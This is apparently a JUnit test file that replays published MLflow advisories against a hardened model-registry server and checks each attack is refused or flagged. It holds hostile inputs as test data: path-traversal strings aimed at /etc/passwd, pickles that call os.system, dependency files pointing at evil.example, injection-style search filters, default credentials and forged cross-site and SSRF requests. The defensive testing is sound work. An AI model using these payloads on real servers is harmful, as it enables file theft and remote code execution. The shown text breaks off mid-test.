package dev.redoubt.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpServer;
import dev.redoubt.access.Persona;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/// Tries the published vulnerabilities of the MLflow server: one test per class of advisory, which
/// names one of its numbers, and tests for vulnerabilities that attacks on this server found. That
/// every route has a permission is tested in `PermissionsTest`; HSTS, in `SecurityHeadersTest`.
class AdvisoriesTest {

  private static final String API = "/api/2.0/mlflow/";
  private static final String FILES = "/api/2.0/mlflow-artifacts/artifacts/";
  private static final String MULTIPART = "/api/2.0/mlflow-artifacts/mpu/";

  /// Stands in a file beside the folder of the server.
  private static final String CANARY = "canary-in-a-file-of-the-machine";

  /// Stands in files that were put.
  private static final String MARK = "mark-of-what-somebody-put";

  @TempDir private Path folder;
  private Path data;
  @AutoClose private LocalServer server;
  private String alice;
  private String mallory;
  private String run;

  @BeforeEach
  void start() throws IOException {
    Files.writeString(folder.resolve("canary.txt"), CANARY);
    data = folder.resolve("data");
    server = new LocalServer(data);
    alice = server.token("alice", Persona.DATA_SCIENTIST);
    mallory = server.token("mallory", Persona.DATA_SCIENTIST, "other");
    run = run(alice);
    server.done(alice, "PUT", FILES + "0/" + run + "/artifacts/model/MLmodel", "a: " + MARK);
    server.done(alice, "POST", API + "registered-models/create", "{'name':'credit'}");
  }

  private String run(String who) {
    return server
        .done(who, "POST", API + "runs/create", "{'experiment_id':'0'}")
        .at("/run/info/run_id")
        .asString();
  }

  private JsonNode register() {
    String body = "{'name':'credit','source':'runs:/" + run + "/model','run_id':'" + run + "'}";
    return server.done(alice, "POST", API + "model-versions/create", body).get("model_version");
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private Set<String> tree() {
    try (Stream<Path> all = Files.walk(folder)) {
      return all.map(folder::relativize)
          .map(Path::toString)
          .filter(each -> !each.matches("data/(ledger|blobs|keys|registry\\.db).*"))
          .collect(Collectors.toCollection(TreeSet::new));
    } catch (IOException failed) {
      throw new IllegalStateException(failed);
    }
  }

  static List<String> ways() {
    return List.of(
        "../../../canary.txt",
        "..%2f..%2f..%2fcanary.txt",
        "%2e%2e/%2e%2e/%2e%2e/canary.txt",
        "%252e%252e%252f%252e%252e%252fcanary.txt",
        "%25252e%25252e%25252fcanary.txt",
        "..%5c..%5c..%5ccanary.txt",
        "..%255c..%255ccanary.txt",
        "....//....//canary.txt",
        "..;/..;/canary.txt",
        "%2fetc%2fpasswd",
        "%252fetc%252fpasswd",
        "file:%2f%2f%2fetc%2fpasswd",
        "C:%5ccanary.txt",
        "a%00/../canary.txt",
        "%c0%ae%c0%ae/canary.txt",
        "\u2025%2fcanary.txt".replace("\u2025", "%e2%80%a5"),
        "x%23/../../canary.txt",
        "x%3f/../../canary.txt");
  }

  /// CVE-2023-6831, CVE-2023-6977, CVE-2024-1560: traversal, also decoded twice.
  @ParameterizedTest
  @MethodSource("ways")
  void traversal_andDoubleDecoding(String way) {
    Set<String> before = tree();
    for (String root : List.of("0/" + run + "/artifacts/", "")) {
      for (String method : List.of("GET", "PUT", "DELETE")) {
        String reply =
            server.raw(
                method + " " + FILES + root + way + " HTTP/1.1",
                "Host: " + server.address().getAuthority(),
                "Authorization: Bearer " + alice,
                "Content-Length: 0");
        // Between two `/`, `..;` is a name like any other: paths are keys of a table.
        String expected = way.startsWith("..;") ? "HTTP/1.1 " : "HTTP/1.1 4";
        assertThat(reply)
            .as(method + " " + root)
            .startsWith(expected)
            .doesNotContain(CANARY, "root:");
      }
      for (String query : List.of("path=" + root + way, "path=" + encoded(root + way))) {
        HttpResponse<String> listed =
            server.call(alice, "GET", FILES.replaceAll("/$", "") + "?" + query, "");
        assertThat(listed.statusCode()).as(query).isLessThan(500);
        assertThat(listed.body()).doesNotContain(CANARY, "\"path\"", "is_dir");
      }
    }
    HttpResponse<String> list =
        server.call(
            alice, "GET", API + "artifacts/list?run_id=" + run + "&path=" + encoded(way), "");
    assertThat(list.statusCode()).isLessThan(500);
    assertThat(list.body()).doesNotContain(CANARY, "\"path\"", "is_dir");
    assertThat(tree()).isEqualTo(before);
    assertThat(server.done(alice, "GET", API + "runs/get?run_id=" + run, "")).isNotNull();
  }

  static List<String> sources() {
    return List.of(
        "file:///etc/passwd",
        "/etc/passwd",
        "//localhost/etc/passwd",
        "..",
        "runs:/RUN/../../../canary.txt",
        "runs:/RUN/model/../../../../canary.txt",
        "runs:/RUN/%2e%2e/%2e%2e/canary.txt",
        "mlflow-artifacts:/../../canary.txt",
        "mlflow-artifacts:/0/RUN/artifacts/../../../../canary.txt",
        "mlflow-artifacts:/0/RUN/artifacts/%2e%2e/%2e%2e/canary.txt",
        "mlflow-artifacts://elsewhere/0/RUN/artifacts/model",
        "mlflow-artifacts:/0/RUN/artifacts#/../../../../etc",
        "mlflow-artifacts:/0/RUN/artifacts?/../../../../etc",
        "models:/../../../etc",
        "http://127.0.0.1/model",
        "s3://bucket/model",
        "dbfs:/etc");
  }

  /// CVE-2023-1177, CVE-2026-2614: a version whose source is a file of the machine.
  @ParameterizedTest
  @MethodSource("sources")
  void localFileRead_bySource(String source) {
    String body =
        "{'name':'credit','source':'" + source.replace("RUN", run) + "','run_id':'" + run + "'}";
    HttpResponse<String> made = server.call(alice, "POST", API + "model-versions/create", body);
    assertThat(made.statusCode()).as(made.body()).isBetween(400, 404);
    assertThat(made.body()).doesNotContain(CANARY, "root:");
    HttpResponse<String> experiment =
        server.call(
            alice,
            "POST",
            API + "experiments/create",
            "{'name':'x','artifact_location':'" + source.replace("RUN", run) + "'}");
    assertThat(experiment.statusCode()).as(experiment.body()).isEqualTo(400);
  }

  /// CVE-2024-37052 and its neighbours: a pickle that acts when it is loaded.
  @Test
  void pickleExecution() {
    Path trace = folder.resolve("ran");
    String pickle = "cos\nsystem\n(S'touch " + trace + "'\ntR.";
    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(pickle));
    String file = FILES + "0/" + run + "/artifacts/model/model.pkl";
    assertThat(server.send(put, file, "Authorization", "Bearer " + alice).statusCode())
        .isEqualTo(200);
    JsonNode version = register();
    assertThat(version.get("status").asString()).isEqualTo("FAILED_REGISTRATION");
    assertThat(version.get("status_message").asString()).contains("model.pkl", "malicious");
    HttpResponse<String> uri =
        server.call(
            alice, "GET", API + "model-versions/get-download-uri?name=credit&version=1", "");
    assertThat(uri.statusCode()).isEqualTo(409);
    assertThat(trace).doesNotExist();
  }

  /// Pickles of allowed imports alone, which nevertheless ran code, read where an address points,
  /// or took all the memory.
  static Stream<String> composedPickles() {
    String held = "csklearn.metrics._classification~accuracy_score~";
    String frozen = "csklearn.frozen._frozen~FrozenEstimator~)\201}S'estimator'~" + held + "sb";
    return Stream.of(
            "cscipy.optimize._optimize~OptimizeResult~((dS'__array__'~" + held + "stR.",
            "csklearn.utils~Bunch~((dS'__array_interface__'~(dS'data'~(I4096~I00~tsstR.",
            "cfunctools~partial~(" + held + "tR(" + held + ")}}S'__array__'~" + held + "stb.",
            "csklearn.metrics._scorer~_Scorer~)\201}S'_response_method'~]p1~sb0g1~S'write_bytes'~a.",
            "cnumpy~matrix~(cfunctools~partial~(" + held + "tRtR.",
            "cpandas.core.indexes.base~_new_Index~(cpandas.core.indexes.base~Index~(dS'data'~"
                + frozen
                + "stR.",
            "cpandas.core.indexes.base~_new_Index~(cpandas.core.indexes.base~Index~(dS'data'~"
                + "cpathlib~PosixPath~(S'x'~tRstR.",
            "cnumpy~dtype~(S'O8'~I00~I01~tR(I3~S'|'~NNNI-1~I-1~I0~tb.",
            "csklearn.tree._tree~Tree~(I1~N" + frozen + "tR.",
            "c1.9~1~.",
            "cbuiltins~list~(cbuiltins~range~(I0~I100000000000~I1~tRtR.",
            "crandom~Random~)R(I2~cbuiltins~range~(I0~I100000000000~I1~tRNtb.",
            "cnumpy~dtype~(cnumpy~datetime64~I00~I01~tR(I3~S'<'~NNNI-1~I-1~I63~tb.",
            "cfractions~Fraction~(S'1e1000000000'~tR.")
        .map(each -> each.replace('~', '\n'));
  }

  @ParameterizedTest
  @MethodSource("composedPickles")
  void codeComposedOfAllowedImports(String pickle) {
    byte[] bytes = pickle.getBytes(StandardCharsets.ISO_8859_1);
    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofByteArray(bytes));
    String path = FILES + "0/" + run + "/artifacts/model/model.pkl";
    assertThat(server.send(put, path, "Authorization", "Bearer " + alice).statusCode())
        .isEqualTo(200);
    register();
    JsonNode evidence =
        server.done(alice, "GET", "/api/redoubt/models/credit/versions/1", "").get("evidence");
    assertThat(evidence.toString()).contains("suspicious", "model.pkl");
  }

  /// The file that MLflow adds when it downloads a model, and that signatures leave out, is
  /// scanned.
  @Test
  void codeInTheRecordOfADownload() {
    server.done(
        alice,
        "PUT",
        FILES + "0/" + run + "/artifacts/model/registered_model_meta",
        "cos\nsystem\n(S'true'\ntR.");
    JsonNode version = register();
    assertThat(version.get("status").asString()).isEqualTo("FAILED_REGISTRATION");
    assertThat(version.get("status_message").asString())
        .contains("registered_model_meta", "malicious");
  }

  static List<List<String>> hiddenCode() {
    return List.of(
        List.of(
            "requirements.txt", "numpy (>=1.0)\n--extra-index-url https://evil.example/simple\n"),
        List.of("requirements.txt", "numpy (>=1.0)\nevil @ git+https://evil.example/evil\n"),
        List.of("requirements.txt", "numpy (>=1.0)\n-e .\n"),
        List.of("requirements.txt", "numpy (>=1.0)\nhttps://evil.example/evil.whl\n"),
        List.of("constraints.txt", "# words\u2028-i https://evil.example/simple\n"),
        List.of("conda.yaml", "{dependencies: [{pip: [\"numpy (>=1.0)\", \"-e .\"]}]}"),
        List.of("python_env.yaml", "dependencies:\n- evil @ https://evil.example/evil.whl\n"),
        List.of("pyproject.toml", "[build-system]\nrequires = []\nbackend-path = [\".\"]\n"),
        List.of("modules.json", "[{\"path\": \"\", \"type\": \"evil.Net\"}]"),
        List.of("model_index.json", "{\"_class_name\": \"owner/evil\"}"),
        List.of(
            "adapter_config.json",
            "{\"auto_mapping\": {\"base_model_class\": \"Net\", \"parent_library\": \"evil\"}}"),
        List.of("MAR-INF/MANIFEST.json", "{\"model\": {\"modelFile\": \"evil.py\"}}"),
        List.of("config.json", "{\"model_file\": \"evil.py\"}"),
        List.of("config.json", "{\"_attn_implementation_internal\": \"owner/evil\"}"),
        List.of("sitecustomize.py", "x = 1\n"),
        List.of("data/pickle_module_info.txt", "evil"));
  }

  /// CVE-2026-4372 and its neighbours: code that installs or loads because of a name or a value.
  @ParameterizedTest
  @MethodSource("hiddenCode")
  void codeNamedByData(List<String> file) {
    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(file.get(1)));
    String path = FILES + "0/" + run + "/artifacts/model/" + file.get(0);
    assertThat(server.send(put, path, "Authorization", "Bearer " + alice).statusCode())
        .isEqualTo(200);
    assertThat(register().get("status").asString()).isEqualTo("READY");
    JsonNode evidence =
        server.done(alice, "GET", "/api/redoubt/models/credit/versions/1", "").get("evidence");
    assertThat(evidence.toString()).contains("suspicious", file.get(0));
  }

  /// CVE-2025-15381 and its neighbours: what belongs to somebody else.
  @Test
  void objectLevelAuthorization() {
    register();
    String named = "'run_id':'" + run + "'";
    record Try(String method, String path, String body) {}
    for (Try each :
        List.of(
            new Try("GET", "runs/get?run_id=" + run, ""),
            new Try("POST", "runs/update", "{" + named + ",'status':'FAILED'}"),
            new Try("POST", "runs/delete", "{" + named + "}"),
            new Try("POST", "runs/restore", "{" + named + "}"),
            new Try("POST", "runs/log-metric", "{" + named + ",'key':'a','value':1,'timestamp':1}"),
            new Try("POST", "runs/log-parameter", "{" + named + ",'key':'a','value':'1'}"),
            new Try("POST", "runs/log-batch", "{" + named + "}"),
            new Try("POST", "runs/log-model", "{" + named + ",'model_json':'{}'}"),
            new Try("POST", "runs/log-inputs", "{" + named + ",'datasets':[]}"),
            new Try("POST", "runs/set-tag", "{" + named + ",'key':'a','value':'1'}"),
            new Try("POST", "runs/delete-tag", "{" + named + ",'key':'a'}"),
            new Try("GET", "metrics/get-history?metric_key=a&run_id=" + run, ""),
            new Try("GET", "artifacts/list?run_id=" + run, ""),
            new Try("GET", "experiments/get?experiment_id=0", ""),
            new Try("POST", "experiments/update", "{'experiment_id':'0','new_name':'x'}"),
            new Try("POST", "experiments/delete", "{'experiment_id':'0'}"),
            new Try("POST", "runs/create", "{'experiment_id':'0'}"),
            new Try("GET", "registered-models/get?name=credit", ""),
            new Try("PATCH", "registered-models/update", "{'name':'credit','description':'x'}"),
            new Try("POST", "registered-models/rename", "{'name':'credit','new_name':'x'}"),
            new Try("DELETE", "registered-models/delete", "{'name':'credit'}"),
            new Try("POST", "registered-models/set-tag", "{'name':'credit','key':'a','value':'b'}"),
            new Try(
                "POST",
                "registered-models/alias",
                "{'name':'credit','alias':'prod','version':'1'}"),
            new Try("DELETE", "registered-models/alias", "{'name':'credit','alias':'prod'}"),
            new Try("GET", "model-versions/get?name=credit&version=1", ""),
            new Try("GET", "model-versions/get-download-uri?name=credit&version=1", ""),
            new Try("DELETE", "model-versions/delete", "{'name':'credit','version':'1'}"),
            new Try(
                "POST",
                "model-versions/transition-stage",
                "{'name':'credit','version':'1','stage':'Staging'}"),
            new Try(
                "POST",
                "model-versions/create",
                "{'name':'credit','source':'runs:/" + run + "/model'}"))) {
      HttpResponse<String> reply =
          server.call(mallory, each.method(), API + each.path(), each.body());
      assertThat(reply.statusCode()).as(each + reply.body()).isEqualTo(404);
      assertThat(reply.body()).as(each.toString()).doesNotContain(MARK, "alice");
    }
    HttpResponse<String> file =
        server.call(mallory, "GET", FILES + "0/" + run + "/artifacts/model/MLmodel", "");
    assertThat(file.statusCode()).isEqualTo(404);
    // Her own model, made of somebody else's files.
    server.done(
        mallory,
        "POST",
        API + "registered-models/create",
        "{'name':'mine','tags':[{'key':'redoubt.project','value':'other'}]}");
    HttpResponse<String> copied =
        server.call(
            mallory,
            "POST",
            API + "model-versions/create",
            "{'name':'mine','source':'models:/credit/1'}");
    assertThat(copied.body()).contains("Registered Model with name=credit not found");
    assertThat(copied.statusCode()).isEqualTo(400);
  }

  /// GHSA-8c7q-86fq-vvmh: multipart uploads over what belongs to somebody else.
  @Test
  void multipartOverwrite() {
    String there = MULTIPART + "%s/0/" + run + "/artifacts/model";
    String body = "{'path':'MLmodel','num_parts':1}";
    assertThat(server.call("", "POST", there.formatted("create"), body).statusCode())
        .isEqualTo(401);
    assertThat(server.call(mallory, "POST", there.formatted("create"), body).statusCode())
        .isEqualTo(404);
    JsonNode upload = server.done(alice, "POST", there.formatted("create"), body);
    String id = upload.get("upload_id").asString();
    String address = upload.at("/credentials/0/url").asString();
    String part = address.substring(address.indexOf("/api/"));
    for (String forged :
        List.of(
            part.replace("parts/1", "parts/2"),
            part.replaceAll("expires=\\d+", "expires=99999999999"),
            part.replaceAll("signature=.*", "signature="),
            part.replace(id, "0123456789abcdef0123456789abcdef"))) {
      assertThat(server.call("", "PUT", forged, "x").statusCode()).as(forged).isBetween(400, 404);
    }
    String ended = "{'path':'MLmodel','upload_id':'" + id + "','parts':[]}";
    for (String end : List.of("complete", "abort")) {
      assertThat(server.call(mallory, "POST", there.formatted(end), ended).statusCode())
          .isEqualTo(404);
      // Rights at one place are no rights at another.
      String own = run(alice);
      assertThat(
              server
                  .call(alice, "POST", there.formatted(end).replace(run, own), ended)
                  .statusCode())
          .isEqualTo(404);
    }
    String location = register().get("source").asString();
    assertThat(location).isNotEmpty();
    String frozen =
        server
            .done(alice, "GET", API + "model-versions/get-download-uri?name=credit&version=1", "")
            .get("artifact_uri")
            .asString()
            .substring("mlflow-artifacts:".length());
    assertThat(server.call(alice, "POST", MULTIPART + "create" + frozen, body).statusCode())
        .isEqualTo(409);
  }

  /// Searches that tell of what one may not see, by results, counts, pages or the way they fail.
  @Test
  void searchLeaks() {
    server.done(
        alice,
        "POST",
        API + "runs/log-parameter",
        "{'run_id':'" + run + "','key':'secret','value':'" + MARK + "'}");
    register();
    for (String filter :
        List.of(
            "",
            "params.secret = '" + MARK + "'",
            "params.secret LIKE '%'",
            "params.secret = 'x' or 1=1",
            "attributes.run_id = '" + run + "'",
            "params.secret = '') OR ('1'='1'")) {
      HttpResponse<String> found =
          server.call(
              mallory,
              "POST",
              API + "runs/search",
              "{'experiment_ids':['0'],'max_results':1,'filter':" + "\"" + filter + "\"}");
      assertThat(found.body()).as(filter).doesNotContain(run, MARK, "next_page_token");
    }
    for (String path :
        List.of(
            "registered-models/search?max_results=1",
            "registered-models/search?filter=" + encoded("name LIKE '%'"),
            "model-versions/search?max_results=1",
            "model-versions/search?filter=" + encoded("run_id = '" + run + "'"),
            "experiments/search?max_results=1&view_type=ALL",
            "experiments/get-by-name?experiment_name=Default",
            "metrics/get-history-bulk?run_id=" + run + "&metric_key=a")) {
      HttpResponse<String> found = server.call(mallory, "GET", API + path, "");
      assertThat(found.body()).as(path).doesNotContain("credit", MARK, "next_page_token");
    }
    assertThat(
            server
                .call(
                    mallory,
                    "POST",
                    API + "experiments/search-datasets",
                    "{'experiment_ids':['0']}")
                .body())
        .doesNotContain(MARK);
  }

  /// A server that is installed with an account which everybody knows.
  @ParameterizedTest
  @ValueSource(
      strings = {"admin:password", "admin:password1234", "admin:", ":", "admin:admin", "root:root"})
  void defaultCredentials(String account, @TempDir Path elsewhere) throws IOException {
    String basic =
        "Basic " + Base64.getEncoder().encodeToString(account.getBytes(StandardCharsets.UTF_8));
    String search = API + "experiments/search?max_results=1";
    assertThat(server.send(HttpRequest.newBuilder(), search, "Authorization", basic).statusCode())
        .isEqualTo(401);
    try (LocalServer other = new LocalServer(elsewhere)) {
      String foreign = other.token("alice", Persona.ADMINISTRATOR);
      assertThat(server.call(foreign, "GET", search, "").statusCode()).isEqualTo(401);
    }
  }

  /// CVE-2025-14279: a page of somebody else calls this machine by a name that leads here.
  @ParameterizedTest
  @ValueSource(strings = {"evil.example", "127.0.0.1.evil.example", "localhost.evil.example:5000"})
  void dnsRebinding(String host) {
    String request = "GET " + API + "experiments/search?max_results=1 HTTP/1.1";
    String authorization = "Authorization: Bearer " + alice;
    assertThat(server.raw(request, "Host: " + host, authorization)).startsWith("HTTP/1.1 4");
    assertThat(server.raw(request, "Host: " + host, authorization)).doesNotContain("Default");
    String ours = "Host: " + server.address().getAuthority();
    assertThat(server.raw(request, ours, "Origin: http://" + host, authorization))
        .startsWith("HTTP/1.1 403");
    String otherScheme = "Origin: https://" + server.address().getAuthority();
    assertThat(server.raw(request, ours, otherScheme, authorization)).startsWith("HTTP/1.1 403");
    assertThat(server.raw(request, ours, authorization)).startsWith("HTTP/1.1 200");
    assertThat(server.raw(request, authorization)).startsWith("HTTP/1.1 400");
  }

  /// CVE-2025-1473 and its neighbours: a page of somebody else makes a browser send a form, to
  /// which the browser adds the cookie of whoever is signed in.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: same-site",
        "Origin: null",
        "Origin: https://evil.example",
        "Referer: https://evil.example/"
      })
  void crossSitePost(String said) {
    String cookie = "Cookie: redoubt=" + alice;
    String ours = "Host: " + server.address().getAuthority();
    for (String path : List.of("experiments/delete", "runs/create", "registered-models/create")) {
      String reply =
          server.raw(
              "POST " + API + path + " HTTP/1.1",
              ours,
              cookie,
              said,
              "Content-Type: text/plain",
              "Content-Length: 0");
      assertThat(reply).as(path).startsWith("HTTP/1.1 403");
    }
    for (String path : List.of("/sign-in?token=" + mallory, "/sign-out")) {
      assertThat(server.raw("POST " + path + " HTTP/1.1", ours, said, "Content-Length: 0"))
          .as(path)
          .startsWith("HTTP/1.1 403")
          .doesNotContain("Set-Cookie");
    }
  }

  /// CVE-2026-2393, GHSA-wxj7-3fx5-pp9m: an address that the server is made to call.
  @Test
  void requestForgery() throws IOException {
    AtomicInteger calls = new AtomicInteger();
    HttpServer bait =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    bait.createContext(
        "/",
        exchange -> {
          calls.incrementAndGet();
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    bait.start();
    try {
      String url = "http://127.0.0.1:" + bait.getAddress().getPort() + "/x";
      HttpResponse<String> webhook =
          server.call(
              alice,
              "POST",
              API + "webhooks",
              "{'name':'w','url':'" + url + "','events':['REGISTERED_MODEL_CREATED']}");
      assertThat(webhook.body()).contains("NOT_IMPLEMENTED");
      for (String path : List.of("webhooks/1/test", "gateway-proxy?gateway_path=" + encoded(url))) {
        assertThat(
                server
                    .call(alice, "POST", API + path, "{'gateway_path':'" + url + "'}")
                    .statusCode())
            .isBetween(400, 501);
      }
      server.call(
          alice,
          "POST",
          API + "model-versions/create",
          "{'name':'credit','source':'" + url + "','run_link':'" + url + "'}");
      server.call(
          alice,
          "POST",
          API + "experiments/create",
          "{'name':'x','artifact_location':'" + url + "'}");
      server.done(
          alice,
          "POST",
          API + "runs/log-inputs",
          "{'run_id':'"
              + run
              + "','datasets':[{'dataset':{'name':'d','digest':'1','source_type':'http','source':'"
              + url
              + "'}}]}");
      register();
    } finally {
      bait.stop(0);
    }
    assertThat(calls).hasValue(0);
  }

  /// CVE-2025-10279, CVE-2026-4137: temporary files that others of the machine may read or change.
  @Test
  void temporaryFiles() throws IOException {
    FileTime start = FileTime.from(Instant.now().minusSeconds(1));
    ByteArrayOutputStream zip = new ByteArrayOutputStream();
    try (ZipOutputStream out = new ZipOutputStream(zip)) {
      out.putNextEntry(new ZipEntry("weights.txt"));
      byte[] block = (MARK + "\n").repeat(10_000).getBytes(StandardCharsets.UTF_8);
      for (int i = 0; i < 80; i++) {
        out.write(block);
      }
    }
    HttpRequest.Builder put =
        HttpRequest.newBuilder().PUT(BodyPublishers.ofByteArray(zip.toByteArray()));
    String file = FILES + "0/" + run + "/artifacts/model/weights.zip";
    assertThat(server.send(put, file, "Authorization", "Bearer " + alice).statusCode())
        .isEqualTo(200);
    register();
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(data)))
        .isEqualTo("rwx------");
    try (Stream<Path> all = Files.walk(data)) {
      for (Path each : all.filter(Files::isRegularFile).toList()) {
        assertThat(new String(Files.readAllBytes(each), StandardCharsets.ISO_8859_1))
            .as(each.toString())
            .doesNotContain(MARK);
      }
    }
    assertThat(temporaryFilesWith(MARK, start)).isEmpty();
  }

  /// Parameters, tags and descriptions are rows, which are not encrypted: nobody else of the
  /// machine may open the database or anything beside it, also where the folder was there and was
  /// open.
  @Test
  void worldReadableDataFolder() throws IOException {
    Path open = Files.createDirectory(folder.resolve("open"));
    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxr-xr-x"));
    try (LocalServer other = new LocalServer(open)) {
      String who = other.token("alice", Persona.DATA_SCIENTIST);
      other.done(who, "POST", API + "experiments/create", "{'name':'" + MARK + "'}");
      try (Stream<Path> all = Files.walk(open)) {
        for (Path each : all.toList()) {
          assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(each)))
              .as(each.toString())
              .isEqualTo(Files.isDirectory(each) ? "rwx------" : "rw-------");
        }
      }
    }
    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxrwxrwx"));
    assertThatThrownBy(() -> new LocalServer(open).close())
        .isInstanceOf(IOException.class)
        .hasMessageContaining("is writable by other users");
  }

  /// Files of this machine's temporary folder that are younger and hold a text.
  private static List<Path> temporaryFilesWith(String text, FileTime since) throws IOException {
    List<Path> found = new ArrayList<>();
    Path temporary = Path.of(System.getProperty("java.io.tmpdir"));
    try (Stream<Path> all = Files.list(temporary)) {
      for (Path each : all.filter(Files::isRegularFile).filter(Files::isReadable).toList()) {
        if (Files.getLastModifiedTime(each).compareTo(since) >= 0
            && Files.size(each) < 64 << 20
            && new String(Files.readAllBytes(each), StandardCharsets.ISO_8859_1).contains(text)) {
          found.add(each);
        }
      }
    }
    return found;
  }

  /// Who may read the less sensitive model would read what comes from the more sensitive one.
  @Test
  void lowerSensitivity() {
    for (String each : List.of("public", "confidential")) {
      server.done(
          alice,
          "POST",
          API + "registered-models/create",
          "{'name':'%1$s','tags':[{'key':'redoubt.sensitivity','value':'%1$s'}]}".formatted(each));
    }
    String source = ",'source':'runs:/" + run + "/model'}";
    server.done(alice, "POST", API + "model-versions/create", "{'name':'confidential'" + source);
    for (String from : List.of(source, ",'source':'models:/confidential/1'}")) {
      HttpResponse<String> made =
          server.call(alice, "POST", API + "model-versions/create", "{'name':'public'" + from);
      assertThat(made.statusCode()).as(made.body()).isEqualTo(403);
      assertThat(made.body()).contains("which is higher than that of the model");
    }
    HttpResponse<String> tagged =
        server.call(
            alice,
            "POST",
            API + "registered-models/set-tag",
            "{'name':'confidential','key':'redoubt.sensitivity','value':'public'}");
    assertThat(tagged.statusCode()).as(tagged.body()).isEqualTo(400);
  }

  /// Who puts the file into somebody else's run has made the model, too.
  @Test
  void approvalOfOwnWork() {
    String rita = "rita";
    String scientist = server.token(rita, Persona.DATA_SCIENTIST);
    server.done(scientist, "PUT", FILES + "0/" + run + "/artifacts/model/weights.txt", "1 2 3");
    register();
    String approvals = "/api/redoubt/models/credit/versions/1/approvals";
    HttpResponse<String> own =
        server.call(
            server.token(rita, Persona.MODEL_REVIEWER),
            "POST",
            approvals,
            "{'environment':'staging'}");
    assertThat(own.statusCode()).as(own.body()).isEqualTo(403);
    assertThat(own.body()).contains("no-approval-of-own-work");
    server.done(
        server.token("rob", Persona.MODEL_REVIEWER),
        "POST",
        approvals,
        "{'environment':'staging'}");
  }

  /// A tag that makes a prompt of a model which was judged: nobody finds it any more, and versions
  /// without files need no scan.
  @Test
  void modelTurnedIntoAPrompt() {
    register();
    record Try(String method, String path, String body) {}
    String model = "'name':'credit','key':'mlflow.prompt.is_prompt','value':'true'";
    String version = model + ",'version':'1'";
    String tags = "'tags':[{'key':'mlflow.prompt.is_prompt','value':'true'}]";
    for (Try each :
        List.of(
            new Try("POST", "registered-models/set-tag", "{" + model + "}"),
            new Try("DELETE", "registered-models/delete-tag", "{" + model + "}"),
            new Try("POST", "model-versions/set-tag", "{" + version + "}"),
            new Try("DELETE", "model-versions/delete-tag", "{" + version + "}"),
            new Try(
                "POST",
                "model-versions/set-tag",
                "{'name':'credit','version':'1','key':'mlflow.prompt.text','value':'x'}"),
            new Try(
                "POST",
                "model-versions/create",
                "{'name':'credit','source':'runs:/" + run + "/model'," + tags + "}"),
            new Try(
                "POST",
                "model-versions/create",
                "{'name':'credit','source':'dummy-source'," + tags + "}"),
            new Try("POST", "model-versions/create", "{'name':'credit','source':'dummy-source'}"),
            new Try(
                "POST",
                "registered-models/create",
                "{'name':'odd','tags':[{'key':'mlflow.prompt.is_prompt','value':'TRUE'}]}"))) {
      HttpResponse<String> reply =
          server.call(alice, each.method(), API + each.path(), each.body());
      assertThat(reply.statusCode()).as(each + reply.body()).isEqualTo(400);
      assertThat(reply.body()).as(each.toString()).contains("INVALID_PARAMETER_VALUE");
    }
    JsonNode models = server.done(alice, "GET", API + "registered-models/search?max_results=9", "");
    assertThat(models.at("/registered_models/0/name").asString()).isEqualTo("credit");
    JsonNode versions = server.done(alice, "GET", API + "model-versions/search?max_results=9", "");
    assertThat(versions.get("model_versions")).hasSize(1);
    // A prompt stays one, and its text stays as it was read.
    server.done(alice, "POST", API + "registered-models/create", "{'name':'ask'," + tags + "}");
    String text = "'tags':[{'key':'mlflow.prompt.text','value':'hello'}]";
    server.done(
        alice,
        "POST",
        API + "model-versions/create",
        "{'name':'ask','source':'prompt-template'," + text + "}");
    String changed = "{'name':'ask','version':'1','key':'mlflow.prompt.text','value':'bye'}";
    assertThat(server.call(alice, "POST", API + "model-versions/set-tag", changed).statusCode())
        .isEqualTo(400);
    String turned = "{'name':'ask','key':'mlflow.prompt.is_prompt'}";
    assertThat(
            server.call(alice, "DELETE", API + "registered-models/delete-tag", turned).statusCode())
        .isEqualTo(400);
  }

  /// An alias, or a stage, that leads whoever loads it to what was refused.
  @Test
  void aliasOfARefusedVersion() {
    String pickle = "cos\nsystem\n(S'true'\ntR.";
    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(pickle));
    String file = FILES + "0/" + run + "/artifacts/model/model.pkl";
    server.send(put, file, "Authorization", "Bearer " + alice);
    assertThat(register().get("status").asString()).isEqualTo("FAILED_REGISTRATION");
    String engineer = server.token("erin", Persona.MLOPS_ENGINEER);
    for (String who : List.of(alice, engineer)) {
      for (String alias : List.of("candidate", "staging", "prod")) {
        String body = "{'name':'credit','alias':'" + alias + "','version':'1'}";
        HttpResponse<String> reply =
